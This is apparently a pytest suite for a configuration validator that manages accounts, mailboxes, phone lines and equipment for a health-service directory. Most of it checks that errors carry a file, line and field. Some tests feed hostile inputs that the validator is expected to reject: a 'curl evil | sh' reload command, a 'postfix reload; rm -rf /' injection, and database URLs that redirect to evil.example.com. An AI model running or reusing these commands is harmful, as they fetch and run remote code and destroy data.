"""`reconciler validate`: every problem, with file, line and field, and never a traceback."""
from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml

from conftest import run_cli

UNITS = """\
units:
  HG-CUERNAVACA:
    name: Hospital General de Cuernavaca
    kind: hospital
    clues: MSSSA000011
  OC-DGPE:
    name: Oficinas Centrales
    kind: oficina_central
"""
ENTITLEMENTS = """\
entitlements:
  internet:
    description: Internet institucional
    group: GG-Internet
"""
PERSON = """\
  - employee_key: {key}
    given_names: {given}
    first_surname: Ñúñez
    second_surname: O'Brien
    title: Médico General
    direction: Dirección de Atención Médica
    phone: 777 311 2210
    status: activo
    entitlements: [internet]
    solicitud: {{folio: F-1, date: 2026-10-05, justification: Alta, requested_by: Dra. Peña}}
"""


def make_repo(root: Path, users: dict[str, str], units: str = UNITS, entitlements: str = ENTITLEMENTS) -> Path:
    ds = root / "desired_state"
    (ds / "users").mkdir(parents=True)
    (ds / "units.yaml").write_text(units, encoding="utf-8")
    (ds / "entitlements.yaml").write_text(entitlements, encoding="utf-8")
    for name, text in users.items():
        (ds / "users" / name).write_text(textwrap.dedent(text), encoding="utf-8")
    return root


def people(unit: str, *persons: str) -> str:
    return f"unit: {unit}\npeople:\n" + "".join(persons)


def validate(root: Path) -> tuple[int, list[str]]:
    code, out, err = run_cli("--repo", str(root), "validate")
    assert "Traceback" not in out + err
    return code, [line for line in err.splitlines() if line.startswith("desired_state/")]


def test_valid_state_passes(tmp_path):
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="E1", given="José"))})
    code, out, err = run_cli("--repo", str(root), "validate")
    assert code == 0 and "1 person (1 activo, 0 baja) in 2 units; 1 entitlement" in out


def test_every_problem_is_reported_with_file_line_and_field(tmp_path):
    bad_person = PERSON.format(key="E2", given="Ana").replace("status: activo", "status: Activo").replace(
        "    title: Médico General\n", "    titel: Médico General\n")
    users = {
        "hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="E1", given="José"), bad_person,
                          PERSON.format(key="E3", given="Luis").replace("[internet]", "[internet, siempre]")
                          + "    curp: NUOJ850412HMSXBS01\n"),
        "oc.yaml": people("OC-DGPE", PERSON.format(key="E1", given="Inés"),
                          PERSON.format(key="E4", given="Juan").replace("employee_key: E4", "employee_key: 004512")),
        "cs.yaml": people("CS-NOWHERE", PERSON.format(key="E5", given="Rosa")),
        "broken.yaml": "unit: HG-CUERNAVACA\npeople:\n  - employee_key: [E6\n",
        "dup.yaml": "unit: HG-CUERNAVACA\nunit: OC-DGPE\npeople: []\n",
    }
    code, problems = validate(make_repo(tmp_path, users))
    assert code == 1
    expected = [
        # schema: unknown field, missing field and a bad enum, each on its own line
        "desired_state/users/hg.yaml:17: people[1].titel: unknown field",
        "desired_state/users/hg.yaml:13: people[1].title: required field is missing",
        "desired_state/users/hg.yaml:20: people[1].status: 'Activo' is not one of 'activo', 'baja'",
        # cross references and CURP
        "desired_state/users/hg.yaml:31: people[2].entitlements[1]: unknown entitlement 'siempre'",
        "desired_state/users/hg.yaml:33: people[2].curp: 'NUOJ850412HMSXBS01' has a wrong check digit",
        "desired_state/users/cs.yaml:1: unit: unknown unit 'CS-NOWHERE'",
        # duplicates across files, and YAML's own traps
        "desired_state/users/oc.yaml:3: people[0].employee_key: employee key 'E1' is already declared at "
        "desired_state/users/hg.yaml:3",
        "desired_state/users/oc.yaml:13: people[1].employee_key: expected text; YAML reads 004512 as 2378: "
        "write it in quotes, '004512'",
        "desired_state/users/broken.yaml:4: YAML syntax error",
        "desired_state/users/dup.yaml:2: unit: key written twice in the same mapping (first on line 1)",
    ]
    for want in expected:
        assert any(p.startswith(want) for p in problems), f"missing: {want}\ngot:\n" + "\n".join(problems)


def test_two_people_deriving_the_same_account_name_with_explicit_names(tmp_path):
    jose = PERSON.format(key="E1", given="José") + "    account: {sam: jnunez}\n"
    juan = PERSON.format(key="E2", given="Juan") + "    account: {sam: JNUNEZ}\n"
    code, problems = validate(make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", jose, juan)}))
    assert code == 1
    assert problems == ["desired_state/users/hg.yaml:24: people[1].account: account name 'jnunez' is also "
                        "derived for desired_state/users/hg.yaml:3; set account.sam for one of them"]


def test_derived_collisions_are_resolved_not_reported(tmp_path):
    jose = PERSON.format(key="E1", given="José")
    juan = PERSON.format(key="E2", given="Juan")
    code, problems = validate(make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", jose, juan)}))
    assert code == 0 and problems == []


def test_same_name_in_the_same_unit_needs_an_explicit_cn(tmp_path):
    one = PERSON.format(key="E1", given="José")
    two = PERSON.format(key="E2", given="José")
    code, problems = validate(make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", one, two)}))
    assert code == 1
    assert problems[0].startswith("desired_state/users/hg.yaml:13: people[1].account: same name as "
                                  "desired_state/users/hg.yaml:3 in the same unit")


def test_duplicate_curp_across_people(tmp_path):
    curp = "    curp: NUOJ850412HMSXBS00\n"
    from reconciler.desired.curp import curp_problem

    assert curp_problem("NUOJ850412HMSXBS00") is None
    one = PERSON.format(key="E1", given="José") + curp
    two = PERSON.format(key="E2", given="Juan") + curp
    code, problems = validate(make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", one, two)}))
    assert code == 1 and "CURP NUOJ850412HMSXBS00 is already declared at desired_state/users/hg.yaml:3" in problems[0]


def test_catalog_problems(tmp_path):
    units = UNITS.replace("    clues: MSSSA000011\n", "") + "  bad key!:\n    name: X\n    kind: hospital\n"
    ents = ENTITLEMENTS.replace("GG-Internet", "GG Internet; drop")
    code, problems = validate(make_repo(tmp_path, {}, units=units, entitlements=ents))
    assert code == 1
    assert any(p.startswith("desired_state/units.yaml:2: units.HG-CUERNAVACA.clues: required field is missing")
               for p in problems), problems
    assert any(p.startswith("desired_state/units.yaml:8: units.bad key!: 'bad key!' is not a valid key") for p in problems)
    assert any(p.startswith("desired_state/entitlements.yaml:4: entitlements.internet.group:") for p in problems)


@pytest.mark.parametrize("text, message", [
    ("", "expected a mapping with a top-level 'units:' key"),
    ("units: [a, b]\n", "units: expected a mapping"),
    ("\xff\xfe", "not UTF-8"),
])
def test_catalog_shapes(tmp_path, text, message):
    root = make_repo(tmp_path, {})
    path = root / "desired_state" / "units.yaml"
    path.write_bytes(text.encode("latin-1")) if "\xff" in text else path.write_text(text)
    code, problems = validate(root)
    assert code == 1 and any(message in p for p in problems), problems


def test_missing_desired_state_is_an_error_not_a_traceback(tmp_path):
    code, out, err = run_cli("--repo", str(tmp_path), "validate")
    assert code == 1 and "desired state directory not found" in err


def test_the_command_exits_non_zero_without_traceback(tmp_path):
    root = make_repo(tmp_path, {"hg.yaml": "unit: HG-CUERNAVACA\npeople:\n  - employee_key: [\n"})
    proc = subprocess.run([sys.executable, "-m", "reconciler.cli", "--repo", str(root), "validate"],
                          capture_output=True, text=True)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr and "desired_state/users/hg.yaml:4: YAML syntax error" in proc.stderr


def test_the_shipped_example_data_is_valid():
    root = Path(__file__).resolve().parent.parent
    code, out, err = run_cli("--repo", str(root), "validate")
    assert code == 0, err
    count = int(out.split("valid:")[1].split()[0])
    assert count >= 200


def test_inventory_refuses_a_password_written_in_it(tmp_path):
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="E1", given="José"))})
    inventory = tmp_path / "inv.yaml"
    inventory.write_text(textwrap.dedent("""\
        targets:
          ad:
            kind: active_directory
            host: 127.0.0.1
            base_dn: DC=salud,DC=lab
            upn_suffix: salud.lab
            ous: {people: "OU=P,DC=salud,DC=lab", groups: "OU=G,DC=salud,DC=lab", bajas: "OU=B,DC=salud,DC=lab"}
            bind_dn: Administrator@SALUD.LAB
            bind_password: {value: "S3cret!"}
        """))
    code, out, err = run_cli("--repo", str(root), "plan", "--working-tree", "--inventory", str(inventory))
    assert code == 1
    assert f"{inventory}:9: targets.ad.bind_password.value: unknown field (allowed: env, file)" in err
    assert "S3cret!" not in out + err


MAIL_INVENTORY = """\
targets:
  mail:
    kind: mail
    domains: [salud.morelos.gob.mx]
    doveadm: {url: http://127.0.0.1:8080/doveadm/v1, api_key: {env: DOVEADM_KEY}}
    registry: /srv/mail/users
    maps: {recipients: /srv/mail/recipients, aliases: /srv/mail/aliases, denied: /srv/mail/denied}
    mail_root: /srv/mail/vmail
    quota: {default: 1G, max: 5G}
"""


def test_mailboxes_are_checked_against_the_inventorys_mail_domains_and_quota(tmp_path):
    mailbox = "    mailbox: {{address: {address}, aliases: [{alias}], quota: {quota}}}\n"
    ana = PERSON.format(key="SSM-1", given="Ana") + mailbox.format(
        address="ana@salud.morelos.gob.mx", alias="urgencias@salud.morelos.gob.mx", quota="2G")
    bea = PERSON.format(key="SSM-2", given="Bea") + mailbox.format(
        address="bea@gmail.com", alias="urgencias@salud.morelos.gob.mx", quota="50G")
    shared = """\
shared_mailboxes:
- address: recepcion@salud.morelos.gob.mx
  name: Recepción
  members: [SSM-1, SSM-9]
  solicitud: {folio: F-2, date: 2026-10-05, justification: Recepción, requested_by: Dirección}
"""
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", ana, bea) + shared})
    (tmp_path / "inventory.yaml").write_text(MAIL_INVENTORY, encoding="utf-8")
    code, out, err = run_cli("--repo", str(root), "validate", "--inventory", str(tmp_path / "inventory.yaml"))
    assert code == 1 and "Traceback" not in out + err
    problems = [line for line in err.splitlines() if line.startswith("desired_state/")]
    assert problems == [
        "desired_state/users/hg.yaml:24: people[1].mailbox.address: bea@gmail.com is not in a managed mail "
        "domain (salud.morelos.gob.mx)",
        "desired_state/users/hg.yaml:24: people[1].mailbox.aliases[0]: urgencias@salud.morelos.gob.mx is "
        "already used at desired_state/users/hg.yaml:13",
        "desired_state/users/hg.yaml:24: people[1].mailbox.quota: quota 50G is over the limit of 5G",
        "desired_state/users/hg.yaml:28: shared_mailboxes[0].members[1]: no person with employee key 'SSM-9' "
        "is declared",
    ]


def test_a_mailbox_address_in_capitals_and_a_reset_for_a_baja_are_refused(tmp_path):
    capitals = PERSON.format(key="SSM-1", given="Ana") + "    mailbox: {address: Ana.Lopez@salud.lab}\n"
    baja = PERSON.format(key="SSM-2", given="Bea").replace("status: activo", "status: baja") + (
        "    password_resets: [{folio: R-1, date: 2026-11-21}]\n")
    code, problems = validate(make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", capitals, baja)}))
    assert code == 1
    assert problems == [
        "desired_state/users/hg.yaml:13: people[0].mailbox.address: 'Ana.Lopez@salud.lab' is not valid: expected "
        "a mail address in lower case, like nombre.apellido@salud.gob.mx",
        "desired_state/users/hg.yaml:24: people[1].password_resets[0].folio: a password reset for a person who "
        "is a baja: their account is disabled",
    ]


def test_assets_are_validated_with_file_line_and_field(tmp_path):
    sol = "{folio: F-9, date: 2026-10-05, justification: Línea, requested_by: Dirección}"
    lines = f"""\
lines:
- {{number: '4401', kind: extension, unit: HG-CUERNAVACA, person: SSM-1, status: activa, solicitud: {sol}}}
- {{number: '4401', kind: extension, unit: HG-CUERNAVACA, status: activa, solicitud: {sol}}}
- {{number: '7771234567', kind: carrier, unit: HG-CUERNAVACA, status: activa, solicitud: {sol}}}
- {{number: '4409', kind: extension, unit: HG-NINGUNO, person: SSM-404, status: activa, solicitud: {sol}}}
"""
    equipment = """\
equipment:
- {inventory_number: INV-1, serial: S1, type: desktop, brand: HP, model: ProDesk, unit: HG-CUERNAVACA, status: en_uso}
- {inventory_number: INV-2, serial: S2, type: printer, brand: HP, model: LaserJet, unit: HG-CUERNAVACA, status: baja}
- inventory_number: INV-3
  serial: S3
  type: laptop
  brand: Dell
  model: Latitude
  hostname: HGC-LT01
  unit: HG-CUERNAVACA
  status: en_uso
  decommission: {reason: obsolescencia, date: 2026-10-20, dictamen: DT-1}
- {inventory_number: INV-4, serial: S4, type: radio, brand: Motorola, model: DEP450, unit: HG-CUERNAVACA, status: roto}
"""
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="SSM-1", given="Ana"))})
    (root / "desired_state" / "assets").mkdir()
    (root / "desired_state" / "assets" / "lines.yaml").write_text(lines, encoding="utf-8")
    (root / "desired_state" / "assets" / "equipment.yaml").write_text(equipment, encoding="utf-8")
    code, problems = validate(root)
    assert code == 1
    assert problems == [
        "desired_state/assets/equipment.yaml:2: equipment[0].hostname: a desktop or laptop needs its hostname: its AD "
        "computer name",
        "desired_state/assets/equipment.yaml:3: equipment[1].decommission: a baja needs its technical verdict: reason "
        "(obsolescencia, sobrecosto_reparacion or falla_irreparable), date and dictamen",
        "desired_state/assets/equipment.yaml:11: equipment[2].status: equipment with a decommission verdict must "
        "have status: baja",
        "desired_state/assets/equipment.yaml:13: equipment[3].status: 'roto' is not one of 'en_uso', 'en_almacen', "
        "'baja'",
        "desired_state/assets/lines.yaml:3: lines[1].number: number 4401 is already declared at "
        "desired_state/assets/lines.yaml:2",
        "desired_state/assets/lines.yaml:4: lines[2].carrier: a carrier line needs its carrier and master_account",
        "desired_state/assets/lines.yaml:5: lines[3].person: no person with employee key 'SSM-404' is declared",
        "desired_state/assets/lines.yaml:5: lines[3].unit: unknown unit 'HG-NINGUNO' (declared units are in "
        "desired_state/units.yaml)",
    ]


def test_the_mail_reload_is_a_choice_never_a_free_command(tmp_path):
    """The reconciler runs it (as root in the lab): an inventory names one of a fixed list."""
    from reconciler.config.inventory import load_inventory
    from reconciler.errors import ValidationFailed

    lab = yaml.safe_load((Path(__file__).resolve().parent.parent / "inventory" / "lab.yaml").read_text())
    inventory = tmp_path / "inventory.yaml"
    for reload, ok in (("sudo -n systemctl reload postfix", True), (["sh", "-c", "curl evil | sh"], False),
                       ("postfix reload; rm -rf /", False)):
        lab["targets"]["mail-lab"]["reload"] = reload
        inventory.write_text(yaml.safe_dump(lab, allow_unicode=True), encoding="utf-8")
        if ok:
            assert load_inventory(inventory)["mail-lab"].reload == tuple(reload.split())
            continue
        with pytest.raises(ValidationFailed) as failed:
            load_inventory(inventory)
        [problem] = failed.value.problems
        assert problem.field == "targets.mail-lab.reload" and "is not one of 'postfix reload'" in problem.message


def test_remote_servers_are_reached_only_the_safe_way(tmp_path):
    """A doveadm API off loopback over plain HTTP, a database URL carrying its password, a mail
    host without a pinned key: each a problem of the inventory, named by its line."""
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="E1", given="José"))})
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(MAIL_INVENTORY.replace("http://127.0.0.1:8080", "http://mail.salud.lab:8080") + """\
  phone:
    kind: sip
    domain: salud.lab
    database: {url: "postgresql://reconciler:S3cret@pbx.salud.lab/kamailio", password: {env: PBX_DB}}
    rpc_url: https://pbx.salud.lab:5071/RPC
  mail-remote:
    kind: mail
    domains: [salud.lab]
    ssh: {host: mail.salud.lab, user: rc-correo, key: /etc/reconciler/mail.key}
    doveadm: {url: https://mail.salud.lab:8080/doveadm/v1, api_key: {env: DOVEADM_KEY}}
    registry: /srv/mail/users
    maps: {recipients: /srv/mail/recipients, aliases: /srv/mail/aliases, denied: /srv/mail/denied}
    mail_root: /srv/mail/vmail
""", encoding="utf-8")
    code, out, err = run_cli("--repo", str(root), "validate", "--inventory", str(inventory))
    assert code == 1 and f"{inventory}:18: targets.mail-remote.ssh.known_hosts: required field is missing" in err
    inventory.write_text(inventory.read_text().replace("key: /etc/reconciler/mail.key}",
                                                       "key: /etc/reconciler/mail.key, known_hosts: /etc/kh}"))
    code, out, err = run_cli("--repo", str(root), "validate", "--inventory", str(inventory))
    assert code == 1 and "Traceback" not in out + err and "S3cret" not in out + err
    assert "targets.mail.doveadm.url: the doveadm API on mail.salud.lab is reached over the network: use https://" in err
    assert "targets.phone.database.url: the URL carries a password" in err
    assert "targets.phone.database.url: the database on pbx.salud.lab is reached over the network: add " \
           "sslmode=verify-full" in err
    assert "targets.mail-remote.reload: on the mail host the reload runs as rc-correo, who cannot reload Postfix" in err
    # A password in the URL's query is a password in Git too; TLS that checks the server is enough.
    inventory.write_text(inventory.read_text().replace(
        "postgresql://reconciler:S3cret@pbx.salud.lab/kamailio",
        "postgresql://reconciler@pbx.salud.lab/kamailio?sslmode=verify-full&password=S3cret"), encoding="utf-8")
    code, out, err = run_cli("--repo", str(root), "validate", "--inventory", str(inventory))
    assert "targets.phone.database.url: the URL carries a password" in err and "S3cret" not in out + err
    assert "targets.phone.database.url: the database on" not in err


@pytest.mark.parametrize("url", [
    "postgresql://r@pbx.salud.lab/k?sslmode=verify-full&sslmode=disable",   # libpq keeps the last
    "postgresql://r@localhost/k?hostaddr=203.0.113.5",                      # connects to the address
    "postgresql://r@127.0.0.1:5432,pbx.salud.lab:5432/k",                   # every host of the list
    "postgresql://r@evil.example.com,x@localhost/k",                         # libpq's first '@', not Python's last
    "postgresql://localhost/k#?host=evil.example.com",                      # a fragment libpq reads as the path
    "postgresql:///k?service=prod",                                         # the server chosen elsewhere
    "postgresql:///k",                                                      # no host: PGHOST would choose
    "postgresql://r@pbx.salud.lab/k?sslmode=verify-ca",                     # no name check
    "postgresql://r@localhost/k?password=S3cret",                           # a password in Git
    "postgresql://r@[::1/k",                                                # libpq cannot read it
    "mysql://r@pbx.salud.lab/kamailio",                                     # MySQL off the runner: TLS
    "mysql://r@pbx.salud.lab/kamailio?sslmode=verify-full&sslmode=disable",  # a key given twice
    "mysql://r@pbx.salud.lab/kamailio?sslmode=verify-full&ssl=false",       # a key nobody checks
    "mysql://r:S3cret@127.0.0.1/kamailio",                                  # a password in Git
    "mysql://r@127.0.0.1,pbx.salud.lab/kamailio",                           # two servers
    "mariadb://127.0.0.1/kamailio#x",                                       # no user, a fragment
])
def test_a_registrar_url_is_judged_as_libpq_reads_it(tmp_path, url):
    root = make_repo(tmp_path, {"hg.yaml": people("HG-CUERNAVACA", PERSON.format(key="E1", given="José"))})
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(MAIL_INVENTORY + f"""\
  phone:
    kind: sip
    domain: salud.lab
    database: {{url: "{url}", password: {{env: PBX_DB}}}}
    rpc_url: https://pbx.salud.lab:5071/RPC
""", encoding="utf-8")
    code, out, err = run_cli("--repo", str(root), "--lang", "en", "validate", "--inventory", str(inventory))
    assert code == 1 and "targets.phone.database.url: " in err and "Traceback" not in out + err
    assert "S3cret" not in out + err

